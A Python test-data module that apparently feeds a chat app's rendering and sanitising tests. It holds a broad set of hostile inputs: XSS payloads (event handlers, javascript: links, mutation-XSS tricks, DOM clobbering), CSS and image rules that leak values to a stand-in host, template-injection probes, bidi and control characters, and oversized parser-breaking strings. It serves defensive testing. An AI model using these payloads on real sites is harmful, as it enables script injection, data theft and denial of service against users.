"""What strangers' cards, messages and names may contain.

Everything that would run calls `pwned()`, and everything that would be fetched is at `elsewhere.invalid`, so that one
look at a page tells whether anything of it got through. Every text ends with `SURVIVOR`, which must stay readable.
"""

from collections.abc import Mapping

__all__ = ["HUGE", "NAMES", "SURVIVOR", "TEXTS"]

SURVIVOR = "still readable"

_RUNS = "pwned()"
_ELSEWHERE = "https://elsewhere.invalid"

_TEXTS = {
    "script": f"<script>{_RUNS}</script>",
    "script that never ends": f"<script>{_RUNS}",
    "script in pieces": f"<scr<script></script>ipt>{_RUNS}</scr</script>ipt>",
    "script from elsewhere": f"<script src={_ELSEWHERE}/a.js></script>",
    "module script": f'<script type="module">import("{_ELSEWHERE}/a.js")</script>',
    "handler on a picture": f"<img src=x onerror={_RUNS}>",
    "handler without spaces": f"<img/src=x/onerror={_RUNS}>",
    "handler on a block": f'<div onclick="{_RUNS}" onpointerenter="{_RUNS}" onanimationstart="{_RUNS}">hover</div>',
    "handler that focuses itself": f'<a href="#" autofocus tabindex="1" onfocus="{_RUNS}">focus</a>',
    "handler on details": f"<details open ontoggle={_RUNS}><summary>open</summary>words</details>",
    "handler on media": f"<video src=x onerror={_RUNS}></video><audio src=x onerror={_RUNS}></audio>",
    "javascript link": f"[a](javascript:{_RUNS}) <a href='javascript:{_RUNS}'>b</a>",
    "javascript link with a tab": f"<a href='java\tscript:{_RUNS}'>a</a> <a href=' &#14; javascript:{_RUNS}'>b</a>",
    "javascript link in entities": f"<a href='&#106;avascript&colon;{_RUNS}'>a</a> [b](&#x6A;avascript:{_RUNS})",
    "data link": f"[a](data:text/html,<script>{_RUNS}</script>) <a href='data:text/html;base64,PHNjcmlwdD4='>b</a>",
    "other schemes": f"[a](vbscript:{_RUNS}) [b](file:///etc/passwd) [c](blob:{_ELSEWHERE}/a) <a href=intent://x>d</a>",
    "link to our own pages": "[stop](/runs/1/stop) [account](/account) [up](../..) [other](//elsewhere.invalid/a)",
    "picture from elsewhere": f"![spy]({_ELSEWHERE}/a.png) <img src='{_ELSEWHERE}/b.png' alt='spy'>",
    "picture sets": f"<img srcset='{_ELSEWHERE}/a.png 1x'><picture><source srcset='{_ELSEWHERE}/b.png'></picture>",
    "picture in data": "![a](data:image/svg+xml,%3Csvg%20onload=pwned()%3E) <img src='data:image/png;base64,AA=='>",
    "picture of ours with more": "![a](/api/v1/blobs/../conversations) ![b](/api/v1/blobs/" + "0" * 64 + "?x=1)",
    "style that asks elsewhere": f"<style>@import url({_ELSEWHERE}/a.css); body {{ display: none }}</style>",
    "style that reads values": f"<style>input[value^='a'] {{ background: url({_ELSEWHERE}/a) }}</style>",
    "style attribute": f"<div style=\"position: fixed; inset: 0; background: url('{_ELSEWHERE}/a')\">cover</div>",
    "style sheet": f"<link rel=stylesheet href={_ELSEWHERE}/a.css><link rel=preload as=image href={_ELSEWHERE}/b>",
    "legacy attributes": f"<table background={_ELSEWHERE}/a width=99999 height=99999><td background={_ELSEWHERE}/b>x",
    "svg": f"<svg onload={_RUNS}><a xlink:href='javascript:{_RUNS}'><text y=20>words</text></a></svg>",
    "svg that fetches": f"<svg><image href={_ELSEWHERE}/a /><use href={_ELSEWHERE}/b#c /></svg>",
    "svg that animates": f"<svg><animate onbegin={_RUNS} attributeName=x dur=1s /><set onbegin={_RUNS} /></svg>",
    "math": f"<math><mi xlink:href='javascript:{_RUNS}'>x</mi><maction actiontype='statusline#a'>y</maction></math>",
    "math that mutates": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 "
    f"onerror={_RUNS}&gt;'></mglyph></table></mtext></math>",
    "svg that mutates": f"<svg><p><style><g title='</style><img src=x onerror={_RUNS}>'></style></p></svg>",
    "noscript that mutates": f"<noscript><p title='</noscript><img src=x onerror={_RUNS}>'></noscript>",
    "form in form": f"<form><div></form><form><math><mtext></form><mglyph><style></math><img src onerror={_RUNS}>",
    "frames": f"<iframe src='javascript:{_RUNS}'></iframe><iframe srcdoc='<script>{_RUNS}</script>'></iframe>",
    "objects": f"<object data={_ELSEWHERE}/a></object><embed src={_ELSEWHERE}/b><applet code=x></applet>",
    "portal to elsewhere": f"<meta http-equiv=refresh content='0; url={_ELSEWHERE}'><base href={_ELSEWHERE}/>",
    "form": f"<form action={_ELSEWHERE}><input name=a autofocus><button formaction={_ELSEWHERE}/b>Send</button></form>",
    "form of ours": "<form id=composer><input name=content><button form=stop_form>Stop</button></form>",
    "template": f"<template><script>{_RUNS}</script></template><template shadowrootmode=open><b>in it</b></template>",
    "custom elements": f"<turbo-stream action=remove target=messages></turbo-stream><turbo-frame src={_ELSEWHERE}/a>",
    "controllers": "<div data-controller=typing data-action='click->typing#draw' data-turbo-method=delete>x</div>",
    "our ids": "<div id=run>a</div><p id=messages>b</p><a name=composer>c</a><b id=announcer>d</b>",
    "our classes": "<div class='composer-dock skip-link message'>a</div><q class='said message-own'>b</q>",
    "global names": "<a id=location></a><img name=cookie><form name=getElementById></form>",
    "other roles": "<div role=alert aria-live=assertive contenteditable popover accesskey=s draggable=true>x</div>",
    "comment": "a <!-- hidden --> b",
    "comment that never ends": "<!-- hidden",
    "conditional comment": f"<!--[if gte IE 4]><script>{_RUNS}</script><![endif]-->",
    "comments in disguise": f"<!--><img src=x onerror={_RUNS}>--> <!--!> <? x ?> <![CDATA[<script>{_RUNS}</script>]]>",
    "ends of our elements": "</p></div></article></li></ol></main></body></html>",
    "unfinished tag": f"<img src=x onerror={_RUNS}",
    "unfinished attribute": f"<p title='\n\n<b title='{_RUNS}",
    "broken nesting": "<b><p><i><table><b><td><a><a></b></p></i><li><ul></table></ul>",
    "everything is text": "<plaintext>",
    "text area": f"<textarea></textarea><img src=x onerror={_RUNS}><title></title><xmp><b></xmp>",
    "NUL and control characters": f"<scr\0ipt>{_RUNS}</scr\0ipt>\x01\x08\x0b\x0c\x1b[31m",
    "half a character": "a\ud800b\udfff",
    "bidi overrides": "\u202eesrever\u202c \u202dforce \u202bembed",
    "bidi overrides in entities": "&#x202E;esrever &#8237;force",
    "bidi isolates without an end": "\u2066\u2067\u2068 isolated",
    "right to left": "שלום world\n\nمرحبا (hello) 123",
    "zalgo": "h" + "\u0315\u031b\u0340\u0341\u0358\u0321\u0322" * 60 + "i",
    "invisible": "\u200b\u200d\u2060\ufeff\u00ad" * 200,
    "one long word": "W" * 5_000,
    "one long address": f"{_ELSEWHERE}/" + "a" * 5_000 + f" [a]({_ELSEWHERE}/{'b' * 3_000})",
    "one long line of code": "`" + "x" * 3_000 + "`\n\n```\n" + "y" * 5_000 + "\n```",
    "a code block that never ends inside a list": "- a\n  ```\n  <b>",
    "wide table": "|" + "wide|" * 200 + "\n|" + "-|" * 200 + "\n|" + "cell|" * 200,
    "deep quotes": ">" * 500 + " deep",
    "deep lists": "".join(f"{'  ' * depth}- {depth}\n" for depth in range(100)),
    "deep blocks": "<div>" * 800 + "<blockquote>" * 400 + "<ul><li>" * 300 + "deep",
    "growing headings": "<h4><div>" * 400 + "huge",
    "climbing letters": "<sup>" * 400 + "up" + "</sup>" * 400 + "<sub>" * 400 + "down" + "</sub>" * 400,
    "emphasis without end": "*a **b _c " * 200,
    "brackets without end": "![[" * 400,
    "quotes without end": '" “ « „ 「 『 ' * 100,
    "entities": "&lt;script&gt;pwned()&lt;/script&gt; &amp;lt;script&amp;gt; &nbsp;&#0;&#xD800;&#x110000;",
    "templates of ours": "{{ config }} {% raw %} {{user}} ${7*7} <%= 7 %>",
    "turbo in text": "<turbo-stream><template>&lt;/template&gt;</turbo-stream> data: x\n\nevent: streams\ndata: y",
}  # fmt: skip

TEXTS: Mapping[str, str] = {name: f"{text}\n\n{SURVIVOR}" for name, text in _TEXTS.items()}
"""Messages of a usual length, by what they try."""

HUGE: Mapping[str, str] = {
    "a million brackets": "[" * 1_000_000,
    "a million tags": "<b>" * 350_000,
    "a million line breaks": "\n" * 1_000_000 + "end",
    "a million letters": "W" * 1_000_000,
    "a million quotations": '"a" ' * 250_000,
    "nested a million times": "> " * 500_000 + "end",
    "ten million characters": "It rained. " * 950_000,
}
"""Messages that are too long for a parser."""

NAMES: Mapping[str, str] = {
    "markup": f"<img src=x onerror={_RUNS}>",
    "script": f"</h2></title><script>{_RUNS}</script>",
    "quotes": f"\"' onmouseover={_RUNS} x='",
    "template": "{{ 7 * 7 }}{% include 'x' %}",
    "bidi": "\u202etxet desrever\u2066",
    "zalgo": "Z" + "\u0315\u031b\u0340\u0341\u0358" * 30,
    "one long word": "W" * 200,
    "many lines": "one\ntwo\r\nthree\u2028four",
    "invisible": "\u200b\u200d\u2060\ufeff",
}
"""Names and titles."""
